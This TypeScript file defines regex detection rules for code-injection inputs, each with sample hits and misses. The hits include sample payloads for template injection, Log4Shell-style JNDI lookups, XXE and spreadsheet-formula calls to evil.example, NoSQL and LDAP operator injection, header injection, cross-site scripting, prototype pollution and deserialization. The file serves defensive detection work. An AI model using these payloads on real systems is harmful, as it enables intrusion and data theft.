// biome-ignore-all lint/suspicious/noTemplateCurlyInString: texts of attackers look like templates

import type { ArgumentRule } from './argument-rule.ts';

export const CODE_RULES: readonly ArgumentRule[] = [
  {
    id: 'code.value_is_code',
    category: 'code_injection',
    severity: 'high',
    weight: 6,
    message: 'A value is a call that runs code.',
    pattern:
      /^\s{0,8}(?:<\?php\b|(?:eval|exec|system|passthru|shell_exec|popen|os\.system)\s?\(\s?(?:["']|atob\(|base64|unescape\(|string\.fromcharcode)|__import__\(\s?["']|require\(\s?["']child_process)/gi,
    hits: [
      "__import__('os').system('id')",
      "eval(atob('YWxlcnQ='))",
      "eval('sleep 5')",
      '<?php system("id"); ?>',
    ],
    misses: ['evaluate (later)', 'import os; run()'],
  },
  {
    id: 'code.template_probe',
    category: 'code_injection',
    severity: 'high',
    weight: 6,
    message: 'An expression that a template engine would work out.',
    pattern:
      /(?:\{\{|\$\{|#\{|<%=|\*\{|@\()\s{0,4}['"]?\d{1,6}['"]?\s{0,4}[*+]\s{0,4}['"]?\d{1,6}['"]?\s{0,4}(?:\}|%>|\))|\{\{[^}\n]{0,80}(?:__class__|__globals__|__mro__|\bself\.|config\.items|request\.application)|\.__class__\.__(?:mro|base|bases|subclasses)__|\$\{\s{0,2}(?:jndi|lower|upper|env|sys|dns|script|url|base64\w{0,8})\s{0,2}:|\$\{::-\w{1,8}\}|\$\{\w{0,6}\$\{[^{}\n]{1,40}\}\w{0,6}(?:\$\{|:)|T\(java\.lang\.|freemarker\.template\.utility|\bconstructor\.constructor\s?\(/gi,
    hits: ['{{7*7}}', '${7*7}', "{{''.__class__.__mro__[1]}}", '${jndi:ldap://evil.example/a}', '<%= 7*7 %>'],
    misses: ['{{ user.name }}', '${HOME}/bin', '{{ price * 2 }}', 'a {{total}} of {{count}}'],
  },
  {
    id: 'code.external_entity',
    category: 'code_injection',
    severity: 'high',
    weight: 6,
    message: 'An XML document that reads other files or addresses.',
    pattern: /<!entity\s{1,8}%?\s{0,8}[\w.-]{1,60}\s{1,8}(?:system|public)\b|<xi:include\b/gi,
    hits: ['<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/x">]>'],
    misses: ['<!DOCTYPE html>', '<!ENTITY nbsp "&#160;">'],
  },
  {
    id: 'code.query_operator',
    isOfStructure: true,
    category: 'code_injection',
    severity: 'high',
    weight: 4,
    message: 'A value is an operator of a document or directory query.',
    pattern:
      /^\s{0,4}\{\s{0,4}['"]?\$(?:ne|gt|gte|lt|regex|where|exists|nin|func|function|accumulator|eval)['"]?\s{0,4}:|(?:\w|^)\[\$(?:ne|gt|regex|where|exists|nin)\]\s{0,2}=|\*\)\([|&]?\(?\w{1,30}=\*|["']\$(?:ne|gt)["']\s{0,2}:\s{0,2}(?:null|["']["'])|["']\$regex["']\s{0,2}:\s{0,2}["']\.\*|["']\$where["']\s{0,2}:|['"]\s{0,2};\s{0,2}return\s{1,4}(?:(?:true|1|this)\b|['"]{2})/gi,
    hits: [
      "'; return true; var x='",
      '{"user": {"$ne": null}}',
      '*)(&(objectClass=*)',
      '{"$ne": null}',
      'password[$ne]=1',
      '*)(uid=*))(|(uid=*',
    ],
    misses: ['{"ne": 1}', '(a)(b)', '$gt: greater than'],
  },
  {
    id: 'code.header_break',
    category: 'code_injection',
    severity: 'high',
    weight: 4,
    message: 'A value ends and a header of its own begins.',
    pattern:
      /(?:%0d%0a|%0a|\r\n|\\r\\n)\s?(?:set-cookie|location|content-(?:length|type)|bcc|x-[a-z-]{1,30})\s?:|^[^\n]{1,80}\n\s?(?:bcc|set-cookie)\s?:|^(?![\w-]{1,40}:)[^\r\n]{0,80}\r\n\s?(?:to|cc|from|reply-to|subject|content-type|mime-version)\s?:/gi,
    hits: [
      'x%0d%0aSet-Cookie: a=b',
      'a@acme.example\r\nBcc: eve@evil.example',
      'a@acme.example\nBcc: eve@evil.example',
    ],
    misses: ['Location: Berlin', 'content type: text'],
  },
  {
    id: 'code.serialized_object',
    isOfStructure: true,
    category: 'code_injection',
    severity: 'critical',
    weight: 6,
    message: 'An object that runs code when it is read back.',
    pattern:
      /^\s{0,4}(?:rO0AB[A-Za-z0-9+/]{4}|aced0005|AAEAAAD\/{4}|\(?c(?:os|posix|nt|subprocess|builtins|__builtin__)\n|gASV[A-Za-z0-9+/]{4}|[OC]:\d{1,4}:"[\w\\]{1,120}":\d{1,4}:\{)|!!(?:python\/(?:object|name|module)|javax?\.|com\.sun\.|org\.)|!ruby\/(?:object|hash)|"@type"\s{0,2}:\s{0,2}"(?:com\.sun|java\.|org\.apache)|^\s{0,4}(?:[\w%.-]{1,40}=)?(?:rO0AB|H4sIAAAAAAAA|gA[J-NRS][\w+/]|BAh[bJ7vIUTo][\w+/]{4}|AAEAAAD\/|\/wE[PXy][\w+/]{6}|YTo\d|Tzo\d|TzoxM)[\w+/=%-]{4}/g,
    hits: [
      'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
      'O:8:"stdClass":1:{s:4:"exec";s:2:"id";}',
      '!!python/object/apply:os.system ["id"]',
    ],
    misses: ['O: open, C: closed', '!!! important', 'cosmos\nsystem', 'rO0 is a code'],
  },
  {
    id: 'code.active_markup',
    category: 'code_injection',
    severity: 'high',
    weight: 4,
    message: 'Markup that runs a probe when it is shown.',
    pattern:
      /<script\b[^>]{0,80}>\s{0,4}(?:alert|prompt|confirm|eval|document\.(?:cookie|location)|window\.location|fetch\s?\(\s?["'`](?:https?:)?\/\/)|<\w{1,12}\b[^<>]{0,200}?[\s/"']on[a-z]{3,20}\s{0,2}=\s{0,2}["']?\s{0,2}(?:alert|prompt|confirm|eval|fetch|document\.|window\.|location|javascript:)|^\s{0,4}(?:javascript|vbscript):\s{0,2}(?=\S{0,80}[(=/%&'\x60])/gi,
    hits: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(document.cookie)'],
    misses: ['<p onclick="open()">more</p>', '<script src="/app.js"></script>', 'JavaScript: the good parts'],
  },
  {
    id: 'code.prototype',
    isOfStructure: true,
    category: 'code_injection',
    severity: 'high',
    weight: 4,
    message: 'A name of a member that reaches the prototype of every object.',
    pattern:
      /["']__proto__["']\s{0,2}:|__proto__(?:\[|\.\w)|["']constructor["']\s{0,2}:\s{0,2}\{\s{0,2}["']prototype|constructor(?:\]?\[|\.)["']?prototype["']?[\].]/g,
    hits: ['{"__proto__": {"isAdmin": true}}', 'constructor[prototype][admin]=1'],
    misses: ['the prototype of the car', '{"proto": 1}', 'constructor(name)'],
  },
  {
    id: 'code.formula',
    category: 'code_injection',
    severity: 'high',
    weight: 4,
    message: 'A cell of a spreadsheet that starts a program or fetches an address.',
    pattern:
      /^\s{0,2}[=+@-][^\n]{0,60}?(?:cmd|powershell|rundll32|mshta)\s{0,2}\|\s{0,2}'|^\s{0,2}[=+@-]\s{0,2}(?:dde|webservice|importxml|importdata|importfeed|importhtml)\s{0,2}\(/gi,
    hits: ["=cmd|' /C calc'!A0", '=IMPORTXML("http://evil.example/?x="&A1)'],
    misses: ['=SUM(A1:A10)', '-5', '+49 30 123456', '@ann please look'],
  },
];
